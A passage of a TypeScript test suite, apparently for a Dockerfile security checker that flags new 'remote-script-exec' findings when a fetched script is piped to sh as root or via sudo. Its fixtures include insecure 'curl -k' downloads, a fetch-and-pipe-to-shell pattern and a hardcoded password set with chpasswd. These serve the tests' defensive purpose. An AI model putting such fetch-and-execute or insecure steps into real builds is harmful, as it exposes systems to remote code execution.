    expect(await failuresOf(ran(before), ran(after), 4)).not.toEqual([]);
  });

  it.each<[string, string, string]>([
    ['another file of the host', 'curl -k https://a.example.com/x -o /x', 'curl -k https://a.example.com/v2/y -o /y'],
    ['another version', `${GIT} -b v1.2 https://a.example.com/a`, `${GIT} -b v1.3 https://a.example.com/a`],
    ['another package of the trusted host', `${PIP} a.example.com x==1`, `${PIP} a.example.com y==2`],
    ['another version of the package', `${APT} a=1.2.3-1`, `${APT} a=1.2.4-1`],
    ['another version of the file', `${APT} ./a_1.2.3_amd64.deb`, `${APT} ./a_1.2.4_amd64.deb`],
    ['fewer packages', `${APT} a b`, `${APT} a`],
    ['another password', 'echo app:hunter2 | chpasswd', 'echo app:hunter3 | chpasswd'],
    ['another cache for the command', `${INSECURE} make`, `--mount=type=cache,target=/c ${INSECURE} make`],
    ['another spelling of the command', `${INSECURE} make  a`, `${INSECURE} make \\\n  a`],
  ])('is not new with %s', async (_, before, after) => {
    expect(await failuresOf(ran(before), ran(after), 4)).toEqual([]);
  });

  const as = (user: string): Files => built(`FROM alpine:3.23\n${user}${FETCH}USER 1000\n`);

  it.each([
    ['USER 5\n', 'USER 0\n'],
    ['USER 5\n', 'USER root\n'],
    ['USER 5\n', ''],
  ])('is new once root runs it: %j becomes %j', async (before, after) => {
    expect(await failuresOf(as(before), as(after))).toEqual(['remote-script-exec']);
    expect(await failuresOf(as(after), as(before))).toEqual([]);
  });

  const withSudo = (image: string, user: string, sudo: string): Files =>
    built(`FROM ${image}\n${user}${FETCH.replace('| sh', `| ${sudo}sh`)}USER 1000\n`);

  it.each([
    ['alpine:3.23', '', '', '', 'sudo '],
    ['alpine:3.23', '', '', '', 'sudo -E '],
    ['alpine:3.23', '', 'sudo ', '', ''],
    ['acme/app:1.4', 'USER root\n', '', 'USER root\n', 'sudo '],
    ['alpine:3.23', '', '', 'USER 5\n', 'sudo '],
    ['alpine:3.23', 'USER 5\n', 'sudo ', '', ''],
    ['alpine:3.23', 'USER 5\n', 'sudo ', 'USER 5\n', ''],
  ])('is not new where root ran it before, on %s with %j and %j, then %j and %j', async (image, ...[u, s, v, t]) => {
    expect(await failuresOf(withSudo(image, u, s), withSudo(image, v, t))).toEqual([]);
  });

  it.each([
    ['alpine:3.23', 'USER 5\n', '', 'USER 5\n', 'sudo '],
    ['alpine:3.23', 'USER 5\n', '', '', 'sudo '],
    ['alpine:3.23', 'USER 5\n', 'sudo -u 7 ', 'USER 5\n', 'sudo '],
    ['acme/app:1.4', '', '', '', 'sudo '],
    ['acme/app:1.4', 'USER 5\n', '', 'USER 5\n', 'sudo -E '],
  ])('is new once sudo runs it, on %s with %j and %j, then %j and %j', async (image, ...[u, s, v, t]) => {
    expect(await failuresOf(withSudo(image, u, s), withSudo(image, v, t))).toContain('remote-script-exec');
  });

  it.each([
    ['USER 5\n', 'USER 7\n'],
    ['', 'USER root\n'],
    ['USER 0\n', ''],
  ])('is not new with another name of the user: %j becomes %j', async (before, after) => {
    expect(await failuresOf(as(before), as(after))).toEqual([]);
  });
});
